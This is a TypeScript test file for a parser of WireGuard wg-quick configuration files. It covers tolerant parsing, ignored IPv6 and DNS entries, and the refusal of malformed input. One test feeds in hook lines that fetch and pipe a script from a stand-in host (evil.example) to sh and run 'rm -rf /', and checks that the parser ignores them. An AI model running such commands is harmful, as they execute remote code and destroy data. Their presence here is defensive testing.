import assert from 'node:assert/strict'
import { test } from 'node:test'
import { Invalid } from '../../../errors.ts'
import { parseQuickConfig } from './wgquick.ts'

const PRIVATE = '6KVVbcmXanU/6mByHy17eNO9DXe9BQJWOyaA204JYH4='
const PEER = 'HvtqvLJ1F33eHmR5Yk9PLZfTHg7w6sazPZtZi9u8pBQ='
const SHARED = 'w9bfMAfqRnLjnlHofX+JSzaRDADrW1tvyW1UWzXJjrg='

const file = (own: string[] = [], peer: string[] = []) =>
  [
    '[Interface]',
    `PrivateKey = ${PRIVATE}`,
    'Address = 10.2.0.2/32',
    ...own,
    '',
    '[Peer]',
    `PublicKey = ${PEER}`,
    'AllowedIPs = 0.0.0.0/0',
    'Endpoint = oslo.example.org:51820',
    ...peer,
  ].join('\n')

test('a provider’s file is read, also with Windows line ends, comments and other cases', () => {
  const text = [
    '\uFEFF# Key for the router',
    '[interface]',
    `privatekey=${PRIVATE}`,
    'Address = 10.2.0.2/32, fd00::2/128',
    'DNS = 10.2.0.1, lan.example',
    'MTU = 1380',
    '[PEER]',
    `PublicKey = ${PEER} # server`,
    `PresharedKey = ${SHARED}`,
    'AllowedIPs = 0.0.0.0/0',
    'AllowedIPs = ::/0',
    'Endpoint = 198.51.100.7:51820',
    'PersistentKeepalive = off',
    '',
  ].join('\r\n')
  assert.deepEqual(parseQuickConfig(text), {
    privateKey: PRIVATE,
    addresses: ['10.2.0.2/32'],
    dns: ['10.2.0.1'],
    mtu: 1380,
    listenPort: undefined,
    publicKey: PEER,
    presharedKey: SHARED,
    allowed: ['0.0.0.0/0'],
    endpoint: '198.51.100.7:51820',
    keepalive: 0,
    ignored: [
      { line: 4, setting: 'Address', code: 'ipv6' },
      { line: 5, setting: 'DNS', code: 'search_domain' },
      { line: 11, setting: 'AllowedIPs', code: 'ipv6' },
    ],
    lines: { Address: [4], DNS: [5], AllowedIPs: [10], Endpoint: [12], ListenPort: [], PublicKey: [8] },
  })
})

test('commands and routing settings are ignored, and listed without their values', () => {
  const { ignored } = parseQuickConfig(
    file(['PostUp = curl http://evil.example | sh', 'PreDown = rm -rf /', 'Table = off', 'SaveConfig = true']),
  )
  assert.deepEqual(
    ignored.map(({ line, setting, code }) => `${line} ${setting}: ${code}`),
    ['4 PostUp: command', '5 PreDown: command', '6 Table: routes', '7 SaveConfig: save'],
  )
  assert.ok(!JSON.stringify(ignored).includes('evil'))
})

const refusals: readonly (readonly [text: string, reason: RegExp])[] = [
  ['', /^the section \[Interface\] is missing$/],
  ['hello', /^line 1: must have the form Name = value$/],
  [`PrivateKey = ${PRIVATE}`, /^line 1: PrivateKey must be in the section/],
  ['[Interface]\n[Other]', /^line 2: the sections are/],
  [file(['Jc = 4']), /^line 4: Jc is not a setting of \[Interface\]$/],
  [file([], ['PostUp = id']), /^line 9: PostUp is not a setting of \[Peer\]$/],
  [file([`PrivateKey = ${PRIVATE}`]), /^line 4: PrivateKey is set twice$/],
  [file(['MTU = 90000']), /^line 4: MTU must be a number from 576 to 9000$/],
  [file([], ['[Peer]', `PublicKey = ${PRIVATE}`]), /^line 9: there is a second \[Peer\]/],
  [file().replace(PRIVATE, 'AAAA'), /^line 2: PrivateKey must be 32 bytes in base64/],
  [file().replace(PEER, `${PEER}A`), /^line 6: PublicKey must be 32 bytes/],
  [file().replace('10.2.0.2/32', 'fd00::2/128'), /^line 3: Address has only IPv6 addresses/],
  [file().replace(`PublicKey = ${PEER}\n`, ''), /^PublicKey is missing$/],
  [
    file().replace('oslo.example.org:51820', '[2001:db8::7]:51820'),
    /^line 8: Endpoint is an IPv6 address; the router needs/,
  ],
  [file().replace('oslo.example.org:51820', '2001:db8::7'), /^line 8: Endpoint is an IPv6 address; the router needs/],
  ['\n'.repeat(600), /^must have at most 500 lines$/],
]
for (const [text, reason] of refusals)
  test(`refused: ${reason.source}`, () =>
    assert.throws(
      () => parseQuickConfig(text),
      (error) => error instanceof Invalid && error.field === 'Config' && reason.test(String(error.phrase)),
    ))
